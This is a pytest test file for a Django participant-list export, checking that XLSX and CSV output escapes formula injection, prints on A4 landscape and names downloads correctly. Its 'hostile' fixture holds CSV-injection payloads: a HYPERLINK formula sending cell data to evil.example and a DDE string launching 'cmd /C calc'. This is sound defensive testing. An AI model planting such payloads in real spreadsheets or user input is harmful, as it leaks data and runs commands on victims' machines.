"""The participant list as XLSX and CSV: text stays text, and the sheet opens ready to print."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from tests.factories import ParticipantFactory

pytestmark = pytest.mark.django_db

A4 = 9


def export(client, fmt, **query):
    return client.get(reverse("participants:participant_export", args=[fmt]), query)


def sheet_of(response):
    return load_workbook(io.BytesIO(response.content)).active


@pytest.fixture
def hostile(cohort):
    return ParticipantFactory(
        cohort=cohort,
        full_name='=HYPERLINK("http://evil.example/?"&A1,"Klik")',
        occupation="@SUM(1+1)*cmd|' /C calc'!A0",
        education_field="+62 perawat",
        phone="+6281234567890",
        participant_number="KAI-04-007",
    )


class TestFormulaInjection:
    def test_a_name_or_occupation_that_starts_a_formula_is_text_in_the_xlsx(
        self, client, hr, hostile
    ):
        client.force_login(hr)
        sheet = sheet_of(export(client, "xlsx"))
        name, occupation = sheet["B2"], sheet["M2"]
        assert (name.value, name.data_type) == (hostile.full_name, "s")
        assert (occupation.value, occupation.data_type) == (hostile.occupation, "s")
        assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)

    def test_a_name_or_occupation_that_starts_a_formula_gets_one_apostrophe_in_the_csv(
        self, client, hr, hostile
    ):
        client.force_login(hr)
        content = export(client, "csv").content.decode("utf-8-sig")
        row = list(csv.reader(io.StringIO(content, newline="")))[1]
        assert row[1] == "'" + hostile.full_name
        assert row[12] == "'" + hostile.occupation
        assert row[0] == hostile.participant_number  # plain text is left alone


class TestPrintReady:
    def test_the_xlsx_prints_on_a4_landscape_one_page_wide_with_the_header_repeated(
        self, client, hr, hostile
    ):
        client.force_login(hr)
        sheet = sheet_of(export(client, "xlsx"))
        assert sheet.page_setup.paperSize == A4
        assert sheet.page_setup.orientation == "landscape"
        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.print_title_rows == "$1:$1"
        assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold

    def test_nik_phone_and_number_are_text_with_the_text_format(self, client, hr, hostile):
        client.force_login(hr)
        sheet = sheet_of(export(client, "xlsx"))
        for cell in (sheet["A2"], sheet["C2"], sheet["J2"]):
            assert (cell.data_type, cell.number_format) == ("s", "@")
        assert sheet["C2"].value == hostile.nik

    def test_the_revealed_birth_date_is_a_date_cell(self, client, hr, hostile):
        client.force_login(hr)
        cell = sheet_of(export(client, "xlsx"))["E2"]
        assert cell.is_date and cell.value.date() == hostile.birth_date

    def test_columns_are_as_wide_as_their_content(self, client, hr, hostile):
        client.force_login(hr)
        sheet = sheet_of(export(client, "xlsx"))
        assert sheet.column_dimensions["C"].width == len(hostile.nik) + 2
        assert sheet.column_dimensions["B"].width == len(hostile.full_name) + 2


class TestDownload:
    def test_the_file_name_names_the_batch_and_the_day_and_nothing_is_cached(
        self, client, hr, cohort, hostile
    ):
        client.force_login(hr)
        today = timezone.localdate().isoformat()
        for fmt in ("csv", "xlsx"):
            response = export(client, fmt, cohort=cohort.pk)
            assert response["Content-Disposition"] == (
                f'attachment; filename="daftar-peserta_kaikoukai_angkatan-4_{today}.{fmt}"'
            )
            assert "no-store" in response["Cache-Control"]

    def test_an_unfiltered_export_is_named_for_the_day(self, client, hr, hostile):
        client.force_login(hr)
        day = timezone.localdate()
        response = export(client, "xlsx")
        assert (
            f'filename="daftar-peserta_{day.isoformat()}.xlsx"' in response["Content-Disposition"]
        )

    def test_a_filter_value_that_names_no_batch_leaves_the_batch_out_of_the_name(
        self, client, hr, hostile
    ):
        client.force_login(hr)
        day = timezone.localdate().isoformat()
        response = export(client, "csv", cohort="junk")
        assert response.status_code == 200
        assert f'filename="daftar-peserta_{day}.csv"' in response["Content-Disposition"]
